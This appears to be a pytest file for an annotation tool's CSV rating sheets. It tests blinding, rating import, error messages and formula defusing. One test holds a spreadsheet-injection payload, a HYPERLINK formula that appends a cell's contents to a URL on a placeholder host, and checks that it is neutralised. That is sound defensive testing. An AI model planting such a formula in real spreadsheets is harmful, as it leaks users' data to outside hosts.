"""Sheets: blind, harmless in a spreadsheet, and read with every fault named."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.people.annotate.helpers import MODELS, answers, project, session, two_files
from trustassay.input.ratings import read_ratings
from trustassay.input.records import InputError
from trustassay.people.annotate.project import AnnotationProject
from trustassay.people.annotate.sheets import (
    _remove_defusing,
    read_sheet,
    store_rows,
    write_sheets,
)
from trustassay.report.document import defuse_formula


def sheet(made: AnnotationProject, folder: Path) -> tuple[Path, list[list[str]]]:
    """Write the sheets, and return the first one with its rows."""
    path = write_sheets(made, folder / "sheet.csv")[0]
    with path.open(encoding="utf-8-sig", newline="") as file:
        return path, list(csv.reader(file))


def fill(path: Path, rows: list[list[str]], ratings: list[str], delimiter: str = ",") -> None:
    """Write the sheet back with ratings, as a spreadsheet does."""
    for row, rating in zip(rows[1:], ratings, strict=False):
        row[1] = rating
    with path.open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file, delimiter=delimiter).writerows(rows)


def test_a_sheet_for_each_rater_tells_nothing_of_the_model(tmp_path: Path) -> None:
    made = project(tmp_path, gold=True, again=0.5)
    paths = write_sheets(made, tmp_path / "sub" / "sheet.csv")
    assert [path.name for path in paths] == ["sheet-anna.csv", "sheet-bela.csv"]
    text = paths[0].read_text(encoding="utf-8-sig")
    for hidden in (*MODELS, "hidden-", "0.123456"):
        assert hidden not in text
    _, rows = sheet(made, tmp_path)
    assert rows[0] == ["key", "rating", "note", "question", "answer", "gold", "passages"]
    assert len(rows) == 1 + 12
    asked = [made.items[step.item].question for step in made.steps["anna"]]
    assert [row[3] for row in rows[1:]] == asked
    assert len({row[0] for row in rows[1:]}) == 12


def test_no_file_is_overwritten(tmp_path: Path) -> None:
    path = tmp_path / "sheet-bela.csv"
    path.write_text("an hour of work")
    with pytest.raises(
        InputError, match=r"sheet-bela.csv: the file exists and would be overwritten"
    ):
        write_sheets(project(tmp_path), tmp_path / "sheet.csv")
    assert path.read_text() == "an hour of work"
    assert not (tmp_path / "sheet-anna.csv").exists()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_ratings_come_back_whatever_the_order(tmp_path: Path, delimiter: str) -> None:
    made = project(tmp_path)
    path, rows = sheet(made, tmp_path)
    rows[1][2] = "'=why"
    rows[1:] = rows[:0:-1]
    fill(path, rows, ["5", "4.0", " 3 ", "", "0"], delimiter)
    found = read_sheet(made, path)
    assert [row.choice for row in found] == ["5", "4", "3", "0"]
    assert [row.step for row in found] == [7, 6, 5, 3]
    with session(made, tmp_path / "r.jsonl") as opened:
        assert asyncio.run(store_rows(opened, found)) == 4
        assert asyncio.run(store_rows(opened, found)) == 0
        assert opened.raters["anna"].rated == 4
    assert [one.value for one in read_ratings(tmp_path / "r.jsonl").ratings] == [5, 4, 3, 0]


def test_words_and_pairs(tmp_path: Path) -> None:
    made = project(tmp_path, rubric="truthfulness")
    path, rows = sheet(made, tmp_path)
    fill(path, rows, ["Mostly truthful", "1"])
    assert [row.choice for row in read_sheet(made, path)] == ["4", "1"]
    pairs = project(tmp_path, pairs=two_files(tmp_path))
    path, rows = sheet(pairs, tmp_path / "pairs")
    assert rows[0][3:6] == ["question", "first", "second"]
    fill(path, rows, ["First", "tie", "second"])
    assert [row.choice for row in read_sheet(pairs, path)] == ["first", "tie", "second"]
    rows[1][1] = "left"
    fill(path, rows, [])
    with pytest.raises(ValueError, match="expected one of first, tie, second, got 'left'"):
        read_sheet(pairs, path)


def test_a_column_for_each_of_several_rubrics(tmp_path: Path) -> None:
    made = project(tmp_path, rubrics=["truthfulness", "verdict"])
    path, rows = sheet(made, tmp_path)
    assert rows[0][:4] == ["key", "rating truthfulness", "rating verdict", "note"]
    rows[1][1:4] = ["Mostly truthful", "yes", "why"]
    rows[2][2] = "no"
    fill(path, rows, [])
    found = read_sheet(made, path)
    assert [(row.step, row.choice) for row in found] == [
        (0, "truthfulness/4"), (0, "verdict/yes"), (1, "verdict/no"),
    ]  # fmt: skip
    with session(made, tmp_path / "r.jsonl") as opened:
        assert asyncio.run(store_rows(opened, found)) == 3
    rows[1][2] = "5"
    fill(path, rows, [])
    with pytest.raises(ValueError, match="row 2: rating verdict: expected one of yes, no, got '5'"):
        read_sheet(made, path)


def test_all_faults_are_named_with_row_and_field_and_nothing_is_stored(tmp_path: Path) -> None:
    made = project(tmp_path)
    path, rows = sheet(made, tmp_path)
    rows[2][2] = "x" * 3000
    rows[4][0] = rows[3][0]
    rows[5][0] = "mine"
    fill(path, rows, ["9", "4", "4", "4", "4", "good"])
    with pytest.raises(ValueError, match="nothing was stored") as raised:
        read_sheet(made, path)
    for words in (
        "row 2: rating: expected one of 5, 4, 3, 2, 1, 0, got '9'",
        "row 3: note: expected at most 2,000 characters, got 3,000",
        "row 5: key: ",
        "is already rated in an earlier row",
        "row 6: key: 'mine' does not belong to this input with these options and raters",
        "row 7: rating: expected one of 5, 4, 3, 2, 1, 0, got 'good'",
    ):
        assert words in str(raised.value), words


def test_a_sheet_of_other_options_is_refused(tmp_path: Path) -> None:
    path, rows = sheet(project(tmp_path), tmp_path)
    fill(path, rows, ["4"])
    for other in (
        project(tmp_path, seed=1),
        project(tmp_path, again=0.5),
        project(tmp_path, answers(5)),
    ):
        with pytest.raises(
            ValueError, match=r"row 2: key: .* does not belong to this input with these"
        ):
            read_sheet(other, path)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "row 1: expected the columns key and rating, as --export writes them, got nothing"),
        (b"id,rating\na,4\n", "row 1: expected the columns key and rating"),
        (b"key,rating\nk1,4,5\n", "row 2: has more cells than the header"),
        (b'key,rating\nk1,"4\n', "row 2: not valid CSV"),
        ("key,rating\nk1,é\n".encode("latin-1"), "byte 15 is not UTF-8; save it as CSV in UTF-8"),
    ],
)
def test_what_is_no_sheet_is_named(tmp_path: Path, content: bytes, words: str) -> None:
    (tmp_path / "x.csv").write_bytes(content)
    with pytest.raises(ValueError, match=words):
        read_sheet(project(tmp_path), tmp_path / "x.csv")


@given(st.text(st.sampled_from("=+-@'\t\r\n a1 "), max_size=8))
def test_no_cell_is_a_formula_and_notes_come_back(text: str) -> None:
    cell = defuse_formula(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not cell.strip(" \n").startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == text or _remove_defusing(cell) == text


def test_formulas_in_answers_are_defused(tmp_path: Path) -> None:
    rows = answers(1)
    rows[0]["response"] = '=HYPERLINK("http://localhost:9/?"&A1,"x")'
    rows[1]["response"] = "-2+3"
    _, written = sheet(project(tmp_path, rows, raters=["anna"]), tmp_path)
    assert sorted(row[4] for row in written[1:]) == [
        "'-2+3",
        '\'=HYPERLINK("http://localhost:9/?"&A1,"x")',
    ]
